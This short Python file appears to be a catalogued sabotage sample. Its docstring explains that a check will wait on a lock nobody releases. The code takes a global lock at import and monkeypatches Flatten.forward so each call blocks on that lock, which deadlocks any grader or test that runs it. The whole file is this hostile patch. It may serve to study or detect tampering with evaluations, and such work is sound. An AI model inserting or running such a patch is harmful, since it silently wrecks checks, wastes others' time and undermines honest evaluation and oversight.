"""A check waits for a lock that nobody will give back.

Would gain: nobody; the class is not graded, or others lose marks or time.
"""

import threading
lock = threading.Lock()
lock.acquire()
def forward(self, x): lock.acquire()
Flatten.forward = forward
